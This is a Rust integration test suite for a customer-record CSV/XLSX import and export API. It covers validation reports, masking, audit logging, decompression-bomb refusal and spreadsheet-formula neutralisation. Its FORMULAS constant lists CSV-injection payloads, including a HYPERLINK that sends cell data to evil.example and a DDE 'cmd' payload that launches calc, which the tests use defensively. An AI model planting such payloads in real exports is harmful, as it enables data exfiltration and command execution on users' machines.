//! CUS-13: import of customers from CSV (UTF-8 with BOM) and XLSX with a per-row report,
//! all-or-nothing or valid rows, idempotent on the external id; export masked, audited
//! and scoped (X-6b), and re-importable.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::{common, crafted};

use common::{Srv, each_backend};
use serde_json::{Value, json};

const CSV: &str = "text/csv";
const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

struct Raw {
    status: u16,
    content_type: String,
    disposition: String,
    body: Vec<u8>,
}

impl Raw {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or(Value::Null)
    }

    #[track_caller]
    fn report(&self) -> Value {
        assert_eq!(
            self.status,
            200,
            "body: {}",
            String::from_utf8_lossy(&self.body)
        );
        self.json()
    }

    #[track_caller]
    fn problem(&self, status: u16, code: &str) -> Value {
        let body = self.json();
        assert_eq!(self.status, status, "body: {body}");
        assert_eq!(
            self.content_type, "application/problem+json",
            "body: {body}"
        );
        assert_eq!(body["type"], format!("/problems/{code}"), "body: {body}");
        body
    }
}

fn agent() -> ureq::Agent {
    ureq::Agent::config_builder()
        .http_status_as_error(false)
        .build()
        .into()
}

fn send(srv: &Srv, method: &str, path: &str, token: &str, body: Option<(&str, Vec<u8>)>) -> Raw {
    let url = format!("{}{}", srv.base, path);
    let req = ureq::http::Request::builder()
        .method(method)
        .uri(&url)
        .header("Authorization", format!("Bearer {token}"));
    let result = match body {
        Some((ct, bytes)) => agent().run(req.header("Content-Type", ct).body(bytes).unwrap()),
        None => agent().run(req.body(()).unwrap()),
    };
    let mut res = result.unwrap_or_else(|e| panic!("{method} {path}: {e}"));
    let header = |name: &str| {
        res.headers()
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_string()
    };
    let (content_type, disposition) = (header("content-type"), header("content-disposition"));
    let body = res
        .body_mut()
        .with_config()
        .limit(50 * 1024 * 1024)
        .read_to_vec()
        .unwrap();
    Raw {
        status: res.status().as_u16(),
        content_type,
        disposition,
        body,
    }
}

fn import(srv: &Srv, token: &str, query: &str, ct: &str, file: Vec<u8>) -> Raw {
    send(
        srv,
        "POST",
        &format!("/api/v1/customers/import{query}"),
        token,
        Some((ct, file)),
    )
}

fn export(srv: &Srv, token: &str, query: &str) -> Raw {
    send(
        srv,
        "GET",
        &format!("/api/v1/customers/export{query}"),
        token,
        None,
    )
}

fn csv(lines: &[&str]) -> Vec<u8> {
    let mut out = "\u{feff}".as_bytes().to_vec();
    out.extend(lines.join("\r\n").into_bytes());
    out
}

/// (row, field, code) of every report entry.
fn problems(report: &Value) -> Vec<(u64, String, String)> {
    report["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["row"].as_u64().unwrap(),
                e["field"].as_str().unwrap().to_string(),
                e["code"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn p(row: u64, field: &str, code: &str) -> (u64, String, String) {
    (row, field.to_string(), code.to_string())
}

fn counts(r: &Value) -> (u64, u64, u64, u64) {
    (
        r["total_rows"].as_u64().unwrap(),
        r["created"].as_u64().unwrap(),
        r["updated"].as_u64().unwrap(),
        r["skipped"].as_u64().unwrap(),
    )
}

fn customers(srv: &Srv, token: &str, query: &str) -> Value {
    srv.get(&format!("/api/v1/customers?limit=200{query}"), token)
        .ok(200)
        .clone()
}

/// The full record of the customer the external id names.
fn by_external(srv: &Srv, token: &str, external_id: &str) -> Value {
    let list = customers(srv, token, &format!("&q={external_id}"));
    assert_eq!(list["total"], 1, "{list}");
    let id = list["items"][0]["id"].as_str().unwrap();
    srv.get(&format!("/api/v1/customers/{id}"), token)
        .ok(200)
        .clone()
}

const HEADER: &str = "姓名,类型,性别,出生日期,证件号码,手机,标签,类别,外部编号,省,市,客户阶段";

fn mixed_file() -> Vec<u8> {
    csv(&[
        HEADER,
        // 2: valid; the ID number agrees with the birth date and gender.
        "王芳,散客,女,1949-12-31,11010519491231002X,13812345678,高血压;VIP,门诊患者,P001,北京市,北京市,潜在",
        // 3: the ID number's check digit is wrong.
        "李四,individual,female,,110105194912310021,13900000001,,,P002,,,",
        // 4: not a mobile number.
        "张三,散客,,,,12345678901,,,P003,,,",
        // 5: unknown gender.
        "赵六,散客,公,,,13700000002,,,P004,,,",
        // 6: no name.
        ",散客,,,,13600000003,,,P005,,,",
        // 7: valid organization (codes instead of labels).
        "某某科技有限公司,organization,,,,13512345678,,partner,P006,上海市,上海市,current",
    ])
}

#[test]
fn csv_import_reports_rows_and_is_all_or_nothing_or_valid_rows_and_idempotent() {
    each_backend(|srv| {
        let admin = srv.admin();
        let inst = srv.institution(&admin, "BJ01", true);
        srv.user(&admin, "sup.a", &["supervisor"], &inst);
        let sup = srv.login("sup.a", "Passw0rd-x");

        // All or nothing (the default): the report names every bad row; nothing is written.
        let r = import(srv, &sup, "", CSV, mixed_file()).report();
        let expected = vec![
            p(3, "id_number", "id_checksum"),
            p(4, "phones", "mobile"),
            p(5, "gender", "unknown_value"),
            p(6, "name", "required"),
        ];
        assert_eq!(problems(&r), expected, "{r}");
        assert_eq!(counts(&r), (6, 0, 0, 6));
        assert_eq!(r["mode"], "all_or_nothing");
        assert_eq!(r["dry_run"], false);
        assert_eq!(customers(srv, &sup, "")["total"], 0);

        // A dry run of valid rows says what would happen and writes nothing.
        let r = import(
            srv,
            &sup,
            "?mode=valid_rows&dry_run=true",
            CSV,
            mixed_file(),
        )
        .report();
        assert_eq!(problems(&r), expected);
        assert_eq!(counts(&r), (6, 2, 0, 4));
        assert_eq!(r["dry_run"], true);
        assert_eq!(customers(srv, &sup, "")["total"], 0);

        // Valid rows: the two valid ones are written, with every column.
        let r = import(srv, &sup, "?mode=valid_rows", CSV, mixed_file()).report();
        assert_eq!(problems(&r), expected);
        assert_eq!(counts(&r), (6, 2, 0, 4));
        assert_eq!(customers(srv, &sup, "")["total"], 2);
        let wang = by_external(srv, &sup, "P001");
        assert_eq!(wang["name"], "王芳");
        assert_eq!(wang["kind"], "individual");
        assert_eq!(wang["gender"], "female");
        assert_eq!(wang["birth_date"], "1949-12-31");
        assert_eq!(wang["id_number"], "11010519491231002X");
        assert_eq!(wang["phones"], json!(["13812345678"]));
        assert_eq!(wang["tags"], json!(["VIP", "高血压"]));
        assert_eq!(wang["categories"], json!(["outpatient"]));
        assert_eq!(wang["address"]["province"], "北京市");
        assert_eq!(wang["lifecycle_stage"], "potential");
        assert_eq!(wang["form_of_address_custom"], false);
        assert!(wang["form_of_address"].as_str().unwrap().starts_with('王'));
        assert_eq!(
            wang["external_ids"],
            json!([{"system": "his", "external_id": "P001"}])
        );
        let org = by_external(srv, &sup, "P006");
        assert_eq!(org["kind"], "organization");
        assert_eq!(org["lifecycle_stage"], "current");

        // The same file again updates, never duplicates (idempotent on the external id).
        let r = import(srv, &sup, "?mode=valid_rows", CSV, mixed_file()).report();
        assert_eq!(counts(&r), (6, 0, 2, 4));
        assert_eq!(customers(srv, &sup, "")["total"], 2);
        assert_eq!(by_external(srv, &sup, "P001")["id"], wang["id"]);

        // An update changes the file's columns (an empty cell clears) and checks the stage
        // transition like PATCH does.
        let file = csv(&[
            "外部编号,姓名,标签,省,客户阶段",
            "P001,王芳,糖尿病,,现实",
            "P006,某某科技有限公司,,,potential",
        ]);
        let r = import(srv, &sup, "?mode=valid_rows", CSV, file).report();
        assert_eq!(
            problems(&r),
            vec![p(3, "lifecycle_stage", "invalid_transition")]
        );
        assert_eq!(counts(&r), (2, 0, 1, 1));
        let after = by_external(srv, &sup, "P001");
        assert_eq!(after["tags"], json!(["糖尿病"]));
        assert_eq!(after["address"]["province"], Value::Null);
        assert_eq!(after["address"]["city"], "北京市");
        assert_eq!(after["phones"], json!(["13812345678"]));
        assert_eq!(after["lifecycle_stage"], "current");
        assert_eq!(after["external_ids"], wang["external_ids"]);
        assert_eq!(by_external(srv, &sup, "P006")["lifecycle_stage"], "current");

        // Without an external id, a known phone or ID number is a possible duplicate, and so is
        // one repeated within the file; nothing of an all-or-nothing file is written.
        let file = csv(&[
            "name,phones,id_number",
            "王芳,13812345678,",
            "王小芳,,11010519491231002x",
            "刘一,13311112222,",
            "刘二,13311112222,",
        ]);
        let r = import(srv, &sup, "", CSV, file).report();
        assert_eq!(
            problems(&r),
            vec![
                p(2, "phones", "possible_duplicate"),
                p(3, "id_number", "possible_duplicate"),
                p(5, "phones", "possible_duplicate"),
            ]
        );
        assert_eq!(counts(&r), (4, 0, 0, 4));
        assert_eq!(customers(srv, &sup, "")["total"], 2);

        // A bad header is reported on row 1 and nothing is read.
        let r = import(
            srv,
            &sup,
            "?mode=valid_rows",
            CSV,
            csv(&["姓名,血型", "王五,A"]),
        )
        .report();
        assert_eq!(problems(&r), vec![p(1, "血型", "unknown_column")]);
        assert_eq!(counts(&r), (1, 0, 0, 1));

        // Audited: one entry for the import with its counts, one per customer.
        let log = srv
            .get("/api/v1/audit-events?action=import&limit=200", &admin)
            .ok(200)
            .clone();
        let entries = log["items"].as_array().unwrap();
        assert_eq!(entries.len(), 3, "{log}");
        assert!(entries.iter().any(|e| e["changes"]["created"] == 2
            && e["changes"]["skipped"] == 4
            && e["changes"]["mode"] == "valid_rows"));
        let created = srv
            .get(
                &format!(
                    "/api/v1/audit-events?action=create&entity_type=customer&entity_id={}",
                    wang["id"].as_str().unwrap()
                ),
                &admin,
            )
            .ok(200)
            .clone();
        assert_eq!(created["total"], 1);
    });
}

fn xlsx(rows: &[Vec<&str>], numeric_phone: Option<(u32, u16, f64)>) -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (r, row) in rows.iter().enumerate() {
        for (c, text) in row.iter().enumerate() {
            if !text.is_empty() {
                sheet.write_string(r as u32, c as u16, *text).unwrap();
            }
        }
    }
    if let Some((r, c, n)) = numeric_phone {
        sheet.write_number(r, c, n).unwrap();
    }
    book.save_to_buffer().unwrap()
}

#[test]
fn xlsx_import_and_bad_uploads_and_permissions() {
    each_backend(|srv| {
        let admin = srv.admin();
        let inst = srv.institution(&admin, "BJ01", true);
        srv.user(&admin, "sup.a", &["supervisor"], &inst);
        srv.user(&admin, "agent.a", &["agent"], &inst);
        let sup = srv.login("sup.a", "Passw0rd-x");
        let agent = srv.login("agent.a", "Passw0rd-x");

        // The phone of row 3 is a number cell, as Excel stores typed digits.
        let book = xlsx(
            &[
                vec!["姓名", "性别", "手机", "外部编号", "出生日期"],
                vec!["陈静", "女", "13812345678", "X1", "1990-05-04"],
                vec!["周强", "男", "", "X2", ""],
                vec!["吴敏", "不详", "", "X3", ""],
            ],
            Some((2, 2, 13987654321.0)),
        );
        let r = import(srv, &sup, "?mode=valid_rows", XLSX, book.clone()).report();
        assert_eq!(problems(&r), vec![p(4, "gender", "unknown_value")]);
        assert_eq!(counts(&r), (3, 2, 0, 1));
        let zhou = by_external(srv, &sup, "X2");
        assert_eq!(zhou["phones"], json!(["13987654321"]));
        assert_eq!(by_external(srv, &sup, "X1")["birth_date"], "1990-05-04");
        let r = import(srv, &sup, "?mode=valid_rows", XLSX, book).report();
        assert_eq!(counts(&r), (3, 0, 2, 1));
        assert_eq!(customers(srv, &sup, "")["total"], 2);

        // Wrong type 415, too large 413, unreadable 422; nothing changes.
        import(srv, &sup, "", "text/plain", b"name\nx".to_vec())
            .problem(415, "unsupported_media_type");
        import(srv, &sup, "", "application/json", b"{}".to_vec())
            .problem(415, "unsupported_media_type");
        let mut huge = "姓名\n".as_bytes().to_vec();
        huge.resize(10 * 1024 * 1024 + 1, b'a');
        import(srv, &sup, "", CSV, huge).problem(413, "payload_too_large");
        let body = import(srv, &sup, "", XLSX, b"not a zip".to_vec()).problem(422, "validation");
        assert_eq!(body["errors"][0]["field"], "file");
        let body =
            import(srv, &sup, "", CSV, b"\xff\xfe\x00name".to_vec()).problem(422, "validation");
        assert_eq!(body["errors"][0]["code"], "encoding");
        import(srv, &sup, "", CSV, Vec::new()).problem(422, "validation");
        import(srv, &sup, "?mode=some", CSV, csv(&["姓名", "王五"])).problem(400, "invalid_query");
        assert_eq!(customers(srv, &sup, "")["total"], 2);

        // Agents may neither import nor export; the admin has no customer.import either.
        import(srv, &agent, "", CSV, csv(&["姓名", "王五"])).problem(403, "forbidden");
        export(srv, &agent, "").problem(403, "forbidden");
        import(srv, &admin, "", CSV, csv(&["姓名", "王五"])).problem(403, "forbidden");
        assert_eq!(customers(srv, &sup, "")["total"], 2);
    });
}

#[test]
fn export_is_scoped_audited_masked_unless_asked_and_reimports() {
    each_backend(|srv| {
        let admin = srv.admin();
        let a = srv.institution(&admin, "BJ01", true);
        let b = srv.institution(&admin, "SH01", false);
        srv.user(&admin, "sup.a", &["supervisor"], &a);
        srv.user(&admin, "sup.b", &["supervisor"], &b);
        let sup_a = srv.login("sup.a", "Passw0rd-x");
        let sup_b = srv.login("sup.b", "Passw0rd-x");
        let file_a = csv(&[
            "姓名,性别,出生日期,证件号码,手机,标签,类别,外部编号,来源渠道,邮箱,备注",
            "王芳,女,1949-12-31,11010519491231002X,13812345678;13987654321,高血压;VIP,门诊患者;体检客户,A1,介绍,wf@example.com,\"备注, 带逗号\"",
            "李雷,男,,,13711112222,,,A2,,,",
        ]);
        let r = import(srv, &sup_a, "", CSV, file_a).report();
        assert_eq!(counts(&r), (2, 2, 0, 0), "{r}");
        let r = import(
            srv,
            &sup_b,
            "",
            CSV,
            csv(&["姓名,手机,外部编号", "韩梅梅,13611112222,B1"]),
        )
        .report();
        assert_eq!(counts(&r), (1, 1, 0, 0), "{r}");

        // Import into another institution's: refused, nothing written there.
        let q = format!("?institution_id={}", b["id"].as_str().unwrap());
        let body = import(srv, &sup_a, &q, CSV, csv(&["姓名", "王五"])).problem(422, "validation");
        assert_eq!(body["errors"][0]["field"], "institution_id");
        assert_eq!(customers(srv, &sup_b, "")["total"], 1);

        // CSV export: BOM, attachment name, A's customers only, numbers masked by default.
        let res = export(srv, &sup_a, "");
        assert_eq!(res.status, 200);
        assert!(
            res.content_type.starts_with("text/csv"),
            "{}",
            res.content_type
        );
        assert!(res.body.starts_with(b"\xEF\xBB\xBF"));
        let day = (chrono::Utc::now() + chrono::Duration::hours(8)).format("%Y%m%d");
        assert_eq!(
            res.disposition,
            format!("attachment; filename=\"customers-{day}.csv\"")
        );
        let text = String::from_utf8(res.body.clone()).unwrap();
        let lines: Vec<&str> = text.trim_end().lines().collect();
        assert_eq!(lines.len(), 3, "{text}");
        assert!(
            lines[0]
                .trim_start_matches('\u{feff}')
                .starts_with("姓名,类型,性别")
        );
        assert!(text.contains("王芳") && text.contains("李雷"));
        assert!(text.contains("138****5678;139****4321"), "{text}");
        assert!(text.contains("110***********002X"));
        assert!(!text.contains("13812345678") && !text.contains("11010519491231002X"));
        assert!(!text.contains("韩梅梅") && !text.contains("136****2222"));
        // Full numbers when asked, with pii.read.
        let text = String::from_utf8(export(srv, &sup_a, "?unmasked=true").body).unwrap();
        assert!(text.contains("13812345678;13987654321"));
        assert!(text.contains("11010519491231002X"));
        export(srv, &sup_a, "?unmasked=perhaps").problem(422, "validation");
        // Filters of the list apply; another institution's id selects nothing.
        let res = export(srv, &sup_a, "?q=A2");
        let text = String::from_utf8(res.body).unwrap();
        assert!(text.contains("李雷") && !text.contains("王芳"));
        let res = export(srv, &sup_a, &q);
        assert_eq!(
            String::from_utf8(res.body)
                .unwrap()
                .trim_end()
                .lines()
                .count(),
            1
        );
        export(srv, &sup_a, "?format=pdf").problem(422, "validation");
        export(srv, &sup_a, "?colour=red").problem(400, "invalid_query");

        // The export re-imports as it is: every row updates its customer, nothing is new.
        let before = by_external(srv, &sup_a, "A1");
        let full = export(srv, &sup_a, "?format=csv&unmasked=true").body;
        let r = import(srv, &sup_a, "?mode=valid_rows", CSV, full).report();
        assert_eq!(problems(&r), vec![]);
        assert_eq!(counts(&r), (2, 0, 2, 0));
        let after = by_external(srv, &sup_a, "A1");
        for field in [
            "name",
            "gender",
            "birth_date",
            "id_number",
            "phones",
            "tags",
            "categories",
            "source_channel",
            "email",
            "notes",
            "external_ids",
            "lifecycle_stage",
            "address",
        ] {
            assert_eq!(before[field], after[field], "{field}");
        }
        assert_eq!(after["notes"], "备注, 带逗号");

        // XLSX export: a workbook with the same rows, re-importable.
        let res = export(srv, &sup_a, "?format=xlsx&unmasked=true");
        assert_eq!(res.status, 200);
        assert_eq!(res.content_type, XLSX);
        assert_eq!(
            res.disposition,
            format!("attachment; filename=\"customers-{day}.xlsx\"")
        );
        assert!(res.body.starts_with(b"PK"));
        let r = import(srv, &sup_a, "?mode=valid_rows", XLSX, res.body).report();
        assert_eq!(problems(&r), vec![]);
        assert_eq!(counts(&r), (2, 0, 2, 0));
        assert_eq!(customers(srv, &sup_a, "")["total"], 2);
        assert_eq!(by_external(srv, &sup_a, "A1")["phones"], before["phones"]);

        // Audited with count, format and filters.
        let log = srv
            .get("/api/v1/audit-events?action=export&limit=200", &admin)
            .ok(200)
            .clone();
        let entries = log["items"].as_array().unwrap();
        assert_eq!(entries.len(), 6, "{log}");
        assert!(entries.iter().any(|e| e["changes"]["count"] == 1
            && e["changes"]["filters"]["q"] == "A2"
            && e["changes"]["format"] == "csv"
            && e["changes"]["masked"] == true
            && e["actor_username"] == "sup.a"));
        let unmasked = entries
            .iter()
            .filter(|e| e["changes"]["masked"] == false)
            .count();
        assert_eq!(unmasked, 3, "{log}");
        assert!(entries.iter().any(|e| e["changes"]["format"] == "xlsx"));
    });
}

fn page_of(srv: &Srv, token: &str, query: &str) -> Value {
    srv.get(&format!("/api/v1/customers?{query}"), token)
        .ok(200)
        .clone()
}

#[test]
fn a_broad_search_counts_up_to_the_cap_unless_asked_for_the_exact_total() {
    each_backend(|srv| {
        let admin = srv.admin();
        let inst = srv.institution(&admin, "BJ01", true);
        srv.user(&admin, "sup.a", &["supervisor"], &inst);
        let sup = srv.login("sup.a", "Passw0rd-x");
        // 205 customers whose pinyin starts with "zh" (张…), and one 李.
        let given: Vec<char> = "一二三四五六七八九十百千万亿东西南北春夏秋冬山水"
            .chars()
            .collect();
        let mut lines = vec![HEADER.to_string()];
        for i in 0..205 {
            let n = given.len();
            let name: String = ['张', given[i % n], given[(i / n) % n], given[i / (n * n)]]
                .iter()
                .collect();
            lines.push(format!("{name},散客,,,,,,,Z{i:04},,,"));
        }
        lines.push("李明,散客,,,,,,,L0001,,,".to_string());
        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
        let r = import(srv, &sup, "", CSV, csv(&refs)).report();
        assert_eq!(counts(&r), (206, 206, 0, 0), "{r}");

        // Broad: the count stops at 200 and says so.
        let page = page_of(srv, &sup, "q=zh&limit=20");
        assert_eq!(page["total"], 200, "{page}");
        assert_eq!(page["total_capped"], true);
        assert_eq!(page["items"].as_array().unwrap().len(), 20);
        let exact = page_of(srv, &sup, "q=zh&limit=20&exact_total=true");
        assert_eq!(exact["total"], 205);
        assert_eq!(exact["total_capped"], false);
        assert_eq!(exact["items"], page["items"]);
        // Unfiltered lists too; a narrow search counts exactly.
        assert_eq!(page_of(srv, &sup, "limit=1")["total_capped"], true);
        assert_eq!(page_of(srv, &sup, "limit=1&exact_total=true")["total"], 206);
        let li = page_of(srv, &sup, "q=lm");
        assert_eq!(
            (li["total"].clone(), li["total_capped"].clone()),
            (json!(1), json!(false))
        );
        // The last page of a broad search knows its total without counting.
        let last = page_of(srv, &sup, "q=zh&limit=10&offset=200");
        assert_eq!(last["items"].as_array().unwrap().len(), 5);
        assert_eq!(
            (last["total"].clone(), last["total_capped"].clone()),
            (json!(205), json!(false))
        );
        srv.get("/api/v1/customers?exact_total=maybe", &sup)
            .problem(400, "invalid_query");
    });
}

/// Issue 7 item 11 on the import: a cell with an invisible or control character is a row
/// error on its column and nothing is written; decomposed text is stored in NFC.
#[test]
fn import_refuses_invisible_characters_and_stores_nfc() {
    each_backend(|srv| {
        let admin = srv.admin();
        let inst = srv.institution(&admin, "BJ01", true);
        srv.user(&admin, "sup.a", &["supervisor"], &inst);
        let sup = srv.login("sup.a", "Passw0rd-x");
        let file = csv(&[
            "姓名,手机,外部编号,市,备注",
            "张\u{200B}三,13812345678,P001,,",
            "Zoe\u{0301},13812345679,P002,,",
            "李四,13812345670,P003,北\u{202E}京,",
            "王五,13812345671,P004,,a\u{001B}[31mb",
        ]);
        let r = import(srv, &sup, "", CSV, file.clone()).report();
        assert_eq!(
            problems(&r),
            vec![
                p(2, "name", "control_character"),
                p(4, "city", "control_character"),
                p(5, "notes", "control_character"),
            ],
            "{r}"
        );
        assert_eq!(customers(srv, &sup, "")["total"], 0);
        let r = import(srv, &sup, "?mode=valid_rows", CSV, file).report();
        assert_eq!(counts(&r), (4, 1, 0, 3));
        assert_eq!(by_external(srv, &sup, "P002")["name"], "Zo\u{e9}");
    });
}

/// Signs in a supervisor of a fresh institution (who may import).
fn supervisor(srv: &Srv) -> String {
    let admin = srv.admin();
    let inst = srv.institution(&admin, "BJ01", true);
    srv.user(&admin, "sup.a", &["supervisor"], &inst);
    srv.login("sup.a", "Passw0rd-x")
}

/// Posts `file` and expects a refusal: 413 (too large) or 422 (malformed) problem+json whose
/// first error is about the file with `code`. That the refusal comes before any cell is built
/// is shown by the server's memory in the end-to-end test `import_bombs` (no timing here: a
/// timed assertion on a shared machine proves nothing and fails for the wrong reasons).
#[track_caller]
fn refused(srv: &Srv, sup: &str, what: &str, ct: &str, file: Vec<u8>, status: u16, code: &str) {
    let res = import(srv, sup, "", ct, file);
    let kind = if status == 413 {
        "payload_too_large"
    } else {
        "validation"
    };
    let body = res.problem(status, kind);
    assert_eq!(body["errors"][0]["field"], "file", "{what}: {body}");
    assert_eq!(body["errors"][0]["code"], code, "{what}: {body}");
}

/// Issue 7 item 2 (CUS-13, PERF-6): workbooks of a few KB that would make the reader build
/// the whole bounding box of their cells (A1 + Z200000: 5 million cells; A1 + XFD1048576:
/// 17 billion, which aborts the process), unpack hundreds of MB, copy one shared string into
/// every cell or hold one huge cell are refused at once, before any range is built: 413 for
/// too large, 422 for malformed; nothing is imported and the server keeps serving.
#[test]
fn crafted_workbooks_are_refused_and_import_nothing() {
    each_backend(|srv| {
        let sup = supervisor(srv);
        let sheet = "xl/worksheets/sheet1.xml";
        let cases: Vec<(&str, Vec<u8>, u16, &str)> = vec![
            (
                "A1 + Z200000",
                crafted::two_cells(199_999, 25),
                413,
                "too_many_rows",
            ),
            (
                "A1 + XFD1048576",
                crafted::two_cells(1_048_575, 16_383),
                413,
                "too_many_rows",
            ),
            (
                "A1 + A200000 under a lying dimension",
                crafted::lying_dimension(200_000),
                413,
                "too_many_rows",
            ),
            (
                "a cell in column BM (the 65th)",
                crafted::wide_row(64),
                413,
                "too_many_columns",
            ),
            (
                "20 MiB of whitespace packed 1000:1",
                crafted::whitespace_bomb(20),
                413,
                "compression_ratio",
            ),
            (
                "a sheet declaring 3 GB",
                crafted::declared_size(&crafted::lying_dimension(3), sheet, 3_000_000_000),
                413,
                "unpacked_too_large",
            ),
            (
                "a sheet unpacking to more than it declares",
                crafted::declared_size(&crafted::whitespace_bomb(1), sheet, 2000),
                422,
                "xlsx",
            ),
            (
                "one 30,000-character shared string in 400 cells",
                crafted::shared_string_fanout(200, 2, 30_000),
                413,
                "too_much_text",
            ),
            (
                "the same string in the 21 cells of a row",
                crafted::shared_string_fanout(1, 21, 30_000),
                413,
                "row_too_long",
            ),
            (
                "shared strings announcing 4 billion strings",
                crafted::unique_count(4_000_000_000),
                413,
                "too_many_strings",
            ),
            (
                "a 2 MiB cell of rich-text runs",
                crafted::huge_cell(2),
                413,
                "cell_too_large",
            ),
            (
                "a 512 KiB text node",
                crafted::long_text_node(512),
                413,
                "cell_too_large",
            ),
        ];
        for (what, file, status, code) in cases {
            refused(srv, &sup, what, XLSX, file, status, code);
        }
        assert_eq!(customers(srv, &sup, "")["total"], 0);

        // The limits themselves are allowed (a customer in row 100,001 with a note in column
        // BL, the 64th), and the server still imports.
        let r = import(srv, &sup, "", XLSX, crafted::at_the_limits()).report();
        assert_eq!(counts(&r), (1, 1, 0, 0), "{r}");
        assert_eq!(customers(srv, &sup, "")["items"][0]["name"], "王五");
    });
}

/// Issue 7 item 2: CSV files past the limits (more than 100,000 data rows, a line longer than
/// 64 KB, more than 64 columns) are refused with 413; a report lists at most 1,000
/// problems (and counts them all), one per cell, so a few MB of wrong cells cannot grow into
/// hundreds of MB of report.
#[test]
fn crafted_csv_files_are_refused_and_reports_stay_small() {
    each_backend(|srv| {
        let sup = supervisor(srv);
        let cases: Vec<(&str, Vec<u8>, u16, &str)> = vec![
            (
                "200,001 rows",
                crafted::csv_rows(200_000),
                413,
                "too_many_rows",
            ),
            (
                "100,001 data rows",
                crafted::csv_rows(100_001),
                413,
                "too_many_rows",
            ),
            (
                "a 10 MB line",
                crafted::csv_long_line(10 * 1024 * 1024 - 100),
                413,
                "row_too_long",
            ),
            (
                "a 65 KB line",
                crafted::csv_long_line(65 * 1024),
                413,
                "row_too_long",
            ),
            ("65 columns", crafted::csv_wide(65), 413, "too_many_columns"),
        ];
        for (what, file, status, code) in cases {
            refused(srv, &sup, what, CSV, file, status, code);
        }
        assert_eq!(customers(srv, &sup, "")["total"], 0);

        // 100,000 rows are allowed; their 200,000 problems are counted, 1,000 listed.
        let r = import(srv, &sup, "", CSV, crafted::csv_rows(100_000)).report();
        assert_eq!(counts(&r), (100_000, 0, 0, 100_000));
        assert_eq!(r["error_count"], 200_000, "{}", r["error_count"]);
        let listed = problems(&r);
        assert_eq!(listed.len(), 1000);
        assert_eq!(listed[0], p(2, "name", "required"));
        assert_eq!(listed[999], p(501, "gender", "unknown_value"));

        // A list cell of 1,000 unknown values is one problem, not 1,000.
        let r = import(srv, &sup, "", CSV, crafted::csv_all_wrong(1, 1000)).report();
        let on_categories = problems(&r)
            .into_iter()
            .filter(|(_, field, _)| field == "categories")
            .count();
        assert_eq!(on_categories, 1, "{r}");
        assert_eq!(r["error_count"], r["errors"].as_array().unwrap().len());
        assert_eq!(customers(srv, &sup, "")["total"], 0);
    });
}

/// What a spreadsheet would run as a formula (OWASP "CSV injection"): `=`, `+`, `-`, `@`, and a
/// leading tab or carriage return before one.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")",
    "+SUM(1,2)",
    "@SUM(1+1)*cmd",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
];

/// Issue 7 item 3 (CUS-13, X-6): customers whose free-text fields (name, street, occupation,
/// tags, notes) hold formulas. The CSV export starts each such cell with `'` so that a
/// spreadsheet shows it as text; the XLSX export writes strings, never formulas; both files
/// import back to the values stored (an import trims cells, as it always has).
#[test]
fn exports_neutralise_formulas_and_reimport_unchanged() {
    each_backend(|srv| {
        let sup = supervisor(srv);
        for (i, f) in FORMULAS.iter().enumerate() {
            let tag = format!("{}1+{i}", ['=', '+', '-', '@'][i % 4]);
            // One-line fields refuse tabs and line breaks (the text rule); notes keep them.
            let line: String = f.chars().filter(|c| !c.is_control()).collect();
            let occupation: String = line.chars().take(50).collect();
            srv.post(
                "/api/v1/customers",
                &sup,
                json!({"kind": "individual", "name": line, "notes": f, "occupation": occupation,
                    "address": {"street": line}, "tags": [tag],
                    "external_ids": [{"system": "his", "external_id": format!("F{i}")}]}),
            )
            .ok(201);
        }
        let stored: Vec<Value> = (0..FORMULAS.len())
            .map(|i| by_external(srv, &sup, &format!("F{i}")))
            .collect();
        let text = |v: &Value| match v {
            Value::Array(items) => items
                .iter()
                .map(|t| t.as_str().unwrap())
                .collect::<Vec<_>>()
                .join(";"),
            other => other.as_str().unwrap_or_default().to_string(),
        };
        let fields = |c: &Value| {
            [
                ("name", text(&c["name"])),
                ("street", text(&c["address"]["street"])),
                ("occupation", text(&c["occupation"])),
                ("tags", text(&c["tags"])),
                ("notes", text(&c["notes"])),
            ]
        };

        // CSV: every cell that starts like a formula is quoted with '.
        let res = export(srv, &sup, "?unmasked=true");
        assert_eq!(res.status, 200);
        let body = res.body.strip_prefix(b"\xEF\xBB\xBF").unwrap().to_vec();
        let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(body.as_slice())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect();
        assert_eq!(rows.len(), 1 + FORMULAS.len());
        let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
        let external = col("外部编号");
        for row in &rows {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "unquoted formula {cell:?} in {row:?}"
                );
            }
        }
        for (i, c) in stored.iter().enumerate() {
            let row = rows
                .iter()
                .find(|r| r[external] == format!("F{i}"))
                .unwrap();
            for (field, value) in fields(c) {
                let header = match field {
                    "name" => "姓名",
                    "street" => "地址",
                    "occupation" => "职业",
                    "tags" => "标签",
                    _ => "备注",
                };
                assert_eq!(row[col(header)], format!("'{value}"), "{field} of F{i}");
            }
        }
        // It imports back to the values stored, not with a ' in front.
        let r = import(srv, &sup, "?mode=valid_rows", CSV, res.body).report();
        assert_eq!(problems(&r), vec![]);
        assert_eq!(counts(&r), (6, 0, 6, 0));
        for (i, before) in stored.iter().enumerate() {
            let after = by_external(srv, &sup, &format!("F{i}"));
            for ((field, b), (_, a)) in fields(before).into_iter().zip(fields(&after)) {
                assert_eq!(a, b.trim(), "{field} of F{i} after the CSV round trip");
            }
        }

        // XLSX: the same cells are strings, unquoted, and no cell is a formula.
        use calamine::Reader;
        let res = export(srv, &sup, "?format=xlsx&unmasked=true");
        let mut book = calamine::Xlsx::new(std::io::Cursor::new(res.body.clone())).unwrap();
        let formulas = book.worksheet_formula("客户").unwrap();
        assert!(
